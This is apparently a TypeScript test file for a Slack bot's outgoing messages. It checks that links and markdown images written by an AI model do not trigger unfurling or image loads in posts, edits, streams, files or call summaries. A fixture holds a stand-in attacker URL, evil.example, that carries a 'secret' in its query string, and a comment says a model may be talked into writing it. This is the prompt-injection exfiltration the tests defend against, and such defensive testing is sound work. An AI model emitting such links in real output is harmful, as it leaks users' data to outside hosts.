import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { CallRecord } from '#core'
import type { TestCore } from '#core/testing'
import type { Message } from '../fake/state.ts'
import type { Place } from './outgoing.ts'
import { outboxGround, outboxWorld, type OutboxWorld } from './testWorld.ts'

/** What a model may be talked into: an address that tells its server something, as a link and as a picture. */
const leak = 'https://evil.example/a.png?d=hemmeligt'
const text = `Hej Anna.\nSe [her](${leak}) og ![billede](${leak}).\nHilsen`

let ground: TestCore
let world: OutboxWorld
let question: Message
let place: Place
beforeAll(async () => void (ground = await outboxGround()))
afterAll(() => ground.close())
beforeEach(async () => {
  world = await outboxWorld(ground)
  question = slack().mention('anna', 'general', 'hvem er vores kunder?')
  place = world.placeOf(question)
})
afterEach(() => world.close())

const slack = () => world.fake.slack
const answers = () => slack().messages('general').filter(({ botId }) => botId) // prettier-ignore
const markdown = ({ blocks }: Message) =>
  blocks.flatMap((block) => (block.type === 'markdown' ? [String(block['text'])] : [])).join('')

/** Calls after which Slack could ask the address: it stands in them, and nothing says that it is to be left alone. */
const asking = () =>
  slack().calls().filter(({ arguments: sent }) => {
    const isForbidden = String(sent['unfurl_links']) === 'false' && String(sent['unfurl_media']) === 'false'
    return !isForbidden && /:\/\/evil\.example/.test(JSON.stringify(sent))
  }).map(({ method }) => method) // prettier-ignore

function expectQuiet(): void {
  expect(asking()).toEqual([])
  expect(JSON.stringify(answers().map(({ blocks }) => blocks))).not.toContain('![')
}

describe('Slack asks no address that a model wrote, and loads no picture', () => {
  test('of a post, whose links can be opened', async () => {
    await world.out.post(place, { text }, 'a')
    expect(markdown(answers()[0]!)).toContain(`[her](${leak})`)
    expectQuiet()
  })

  test('of a message that is changed', async () => {
    const { ts } = await world.out.post(place, { text: 'Et øjeblik.' }, 'a')
    await world.out.update(place, ts, { text }, 'b')
    expect(markdown(answers()[0]!)).toContain('Hej Anna.')
    expectQuiet()
  })

  test('of what one person alone sees', async () => {
    await world.out.ephemeral(place, slack().workspace.user('anna').id, { text })
    expect(answers().at(-1)).toMatchObject({ onlyFor: slack().workspace.user('anna').id })
    expectQuiet()
  })

  test('of an answer that is streamed: it goes on in a post, whose links can be opened', async () => {
    const answer = await world.out.answer(place, 'a')
    answer.text(text.slice(0, 12))
    await world.until(() => answers()[0]?.stream?.state === 'in_progress')
    for (const at of [12, 40, 60]) {
      answer.text(text.slice(at, { 12: 40, 40: 60 }[at]))
      await slack().clock.advance(1_000)
    }
    const { ts } = await world.passing(answer.finish(text, { blocks: [{ type: 'divider' }] }))
    expect(answers().map(markdown)).toEqual([
      'Hej Anna.\n',
      `Se [her](${leak}) og [billede](${leak}).\nHilsen`,
    ])
    expect(answers().map((one) => one.stream?.state)).toEqual(['completed', undefined])
    expect(answers()[1]).toMatchObject({ ts, threadTs: question.ts, blocks: [{}, { type: 'divider' }] })
    expect(slack().session(question)?.status).toBe('active')
    expectQuiet()
  })

  test('of an answer that begins with one: nothing of it is streamed', async () => {
    const answer = await world.out.answer(place, 'a')
    answer.text(`${leak} er siden. `)
    await world.passing(answer.finish(`${leak} er siden.`))
    expect(slack().calls('chat.startStream')).toEqual([])
    expect(answers().map(markdown)).toEqual([`${leak} er siden.`])
    expectQuiet()
  })

  test('of an answer whose process died, when the next one ends it', async () => {
    const dying = await world.out.answer(place, 'a')
    dying.text('Hej Anna.\n')
    await world.until(() => answers()[0]?.stream?.state === 'in_progress')
    const answer = await world.out.answer(place, 'a')
    await world.passing(answer.finish(text))
    expect(answers().map(markdown)).toEqual([
      'Hej Anna.\n',
      `Se [her](${leak}) og [billede](${leak}).\nHilsen`,
    ])
    expectQuiet()
  })

  test('of what is said about a call', async () => {
    const answer = await world.out.answer(place, 'a')
    const call: CallRecord = { id: 'call_1', operation: 'demo.customers.list', title: `Åbn ${leak}`, input: {}, status: 'running' } // prettier-ignore
    answer.task(call)
    await world.until(() => answers()[0]?.stream?.state === 'in_progress')
    answer.task({ ...call, status: 'failed', summary: `Fandt intet på ${leak}` } as CallRecord)
    await world.passing(answer.finish('Nej.'))
    expect(answers()).toHaveLength(1)
    expectQuiet()
  })

  test('of a file', async () => {
    await world.passing(
      world.out.file(place, { name: 'kunder.csv', content: Buffer.from(`Kunde;${leak}`) }, 'a'),
    )
    expect(answers().flatMap(({ files }) => files)).toHaveLength(1)
    expectQuiet()
  })
})
